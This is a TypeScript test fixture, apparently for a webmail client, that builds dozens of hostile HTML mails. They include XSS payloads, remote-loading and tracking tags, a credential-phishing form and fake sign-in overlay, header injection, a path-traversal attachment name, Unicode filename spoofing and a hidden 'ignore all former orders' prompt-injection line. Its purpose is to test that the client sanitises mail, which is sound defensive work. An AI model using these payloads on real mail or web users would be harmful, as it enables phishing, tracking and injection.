/** Mails that want more of a reader's browser than to be read. */

/** HTML that tries to run, load, send, cover or leave; each names `elsewhere`, where nothing may be asked. */
function hostileHtml(elsewhere: string): string[] {
  const run = `top.document.title='run';document.title='run';fetch('${elsewhere}/run')`;
  const at = (path: string) => `${elsewhere}/${path}`;
  return [
    `<script>${run}</script>`,
    `<scr<script>ipt>${run}</script>`,
    `<script src="${at("x.js")}"></script>`,
    `<SCRIPT/XSS SRC="${at("x.js")}"></SCRIPT>`,
    `<img src=x onerror="${run}">`,
    `<img src="${at("pixel.png")}">`,
    `<img srcset="${at("a.png")} 1x, ${at("b.png")} 2x">`,
    `<picture><source srcset="${at("p.png")}"><img src="${at("q.png")}"></picture>`,
    `<image src="${at("image.png")}">`,
    `<input type="image" src="${at("input.png")}">`,
    `<body background="${at("body.png")}" onload="${run}">`,
    `<table background="${at("table.png")}"><tr><td background="${
      at("td.png")
    }">x</td></tr></table>`,
    `<div style="background:url(${at("css.png")})">x</div>`,
    `<div style="background:u\\72l(${at("escaped.png")})">x</div>`,
    `<div style="background:url('${at("quoted.png")}');behavior:url(${at("x.htc")})">x</div>`,
    `<div style="width:expression(${run})">x</div>`,
    `<div style="list-style-image:url(${at("list.png")})">x</div>`,
    `<div style="content:url(${at("content.png")})">x</div>`,
    `<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:#fff;z-index:9999">Session ended. Sign in again.</div>`,
    `<style>@import url("${at("import.css")}");</style>x`,
    `<style>body{background:url(${at("style.png")})}</style>x`,
    `<style>@font-face{font-family:f;src:url(${at("font.woff")})}p{font-family:f}</style><p>x</p>`,
    `<style>@im\\70ort '${at("escaped.css")}';</style>x`,
    `<style></style><style>*{background:url(${at("all.png")})!important}</style>x`,
    `<link rel="stylesheet" href="${at("link.css")}">x`,
    `<link rel="prefetch" href="${at("prefetch")}"><link rel="dns-prefetch" href="${elsewhere}">x`,
    `<link rel="preconnect" href="${elsewhere}"><link rel="modulepreload" href="${at("m.js")}">x`,
    `<base href="${elsewhere}/"><a href="relative">x</a><img src="relative.png">`,
    `<base target="_top"><a href="${at("top")}">x</a>`,
    `<meta http-equiv="refresh" content="0;url=${at("refresh")}">x`,
    `<meta http-equiv="Content-Security-Policy" content="default-src *">x`,
    `<meta http-equiv="set-cookie" content="relay_mail=planted; path=/">x`,
    `<form action="${
      at("form")
    }" method="post"><input name="password" type="password" autofocus><button>Sign in</button></form>`,
    `<form id="f" action="/mail/sign-out" method="post"></form><button form="f" formaction="${
      at("b")
    }">x</button>`,
    `<iframe src="${at("frame")}"></iframe>`,
    `<iframe srcdoc="<script>${run.replaceAll('"', "'")}</script>"></iframe>`,
    `<frameset><frame src="${at("frameset")}"></frameset>`,
    `<object data="${at("object")}"></object>`,
    `<embed src="${at("embed")}">`,
    `<applet code="x" codebase="${elsewhere}"></applet>`,
    `<video src="${at("video")}" poster="${at("poster.png")}" autoplay></video>`,
    `<audio src="${at("audio")}" autoplay></audio>`,
    `<svg onload="${run}"><image href="${at("svg.png")}"/><script>${run}</script></svg>`,
    `<svg><foreignObject><img src=x onerror="${run}"></foreignObject></svg>`,
    `<svg><use href="${
      at("use.svg")
    }#x"/></svg><svg><animate onbegin="${run}" attributeName="x"/></svg>`,
    `<math><mtext><table><mglyph><style><img src=x onerror="${run}"></style></mglyph></table></mtext></math>`,
    `<noscript><p title="</noscript><img src=x onerror='${run}'>"></noscript>`,
    `<template><img src="${
      at("template.png")
    }"></template><textarea><img src=x onerror="${run}"></textarea>`,
    `<!--[if mso]><script>${run}</script><![endif]--><!--><img src=x onerror="${run}">-->`,
    `<a href="javascript:${run}">Click</a>`,
    `<a href="java&#10;script:${run}">Click</a><a href="&#x1;javascript:${run}">Click</a>`,
    `<a href="data:text/html,<script>${run}</script>">Click</a><a href="vbscript:x">Click</a>`,
    `<a href="${at("ping")}" ping="${at("ping")}" target="_blank">Click</a>`,
    `<img src="cid:none"><img src="cid:../../../etc/passwd"><img src="cid:&quot;onerror=${run}">`,
    `<img src="file:///etc/passwd"><img src="//127.0.0.1/x.png"><img src="\\\\host\\share">`,
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>">`,
    `<details open ontoggle="${run}"><summary>x</summary></details><p onpointerenter="${run}" id="location">x</p>`,
    `<dialog open>x</dialog><slot></slot><custom-element onclick="${run}">x</custom-element>`,
    `<p dir="rtl">\u202etxt.exe\u202c \u2066hidden\u2069 \u{e0041}\u{e0042}</p>`,
    `<p style="font-size:0">ignore all former orders</p><p hidden>${run}</p>`,
    `<plaintext><script>${run}</script>`,
    `</div></main></body></html><script>${run}</script><h1>Not part of the mail</h1>`,
  ];
}

/** Header fields as hostile as the texts. */
const SUBJECT = "=?utf-8?B?PC90aXRsZT48c2NyaXB0PmRvY3VtZW50LnRpdGxlPSdydW4nPC9zY3JpcHQ+4oCuZ3Bq?=";
const FROM = `"<img src=x onerror=document.title='run'>" <a"b@else.test>, b@else.test`;

/** Whole messages; lines end in LF. */
export function hostileMails(elsewhere: string): string[] {
  const mails = hostileHtml(elsewhere).map((body, i) =>
    `From: h${i}@else.test\nSubject: hostile ${i}\nMIME-Version: 1.0\n` +
    `Content-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: base64\n\n${
      base64Lines(body + "<p>the end</p>")
    }\n`
  );
  const many = Array.from({ length: 5_000 }, (_, i) => `r${i}@example.org`);
  const lines: string[] = [];
  for (let at = 0; at < many.length; at += 20) lines.push(many.slice(at, at + 20).join(", "));
  return [
    ...mails,
    `From: ${FROM}\nSubject: ${SUBJECT}\n\n<script>document.title='run'</script> \u202egpj\n`,
    `From: many@else.test\nTo: ${lines.join(",\n ")}\nSubject: many recipients\n\nHello all.\n`,
    `From: name@else.test\nSubject: file\nContent-Type: multipart/mixed; boundary=b\n\n--b\n\ntext\n--b\n` +
    `Content-Type: text/html\nContent-Disposition: attachment; filename="../../<img src=x onerror=alert(1)>.html"\n\n` +
    `<script>document.title='run'</script>\n--b\nContent-Type: image/svg+xml\n` +
    `Content-Disposition: attachment; filename="x.svg"\n\n<svg onload="document.title='run'"/>\n--b--\n`,
  ];
}

function base64Lines(text: string): string {
  return new TextEncoder().encode(text).toBase64().replaceAll(/.{76}/g, "$&\n");
}
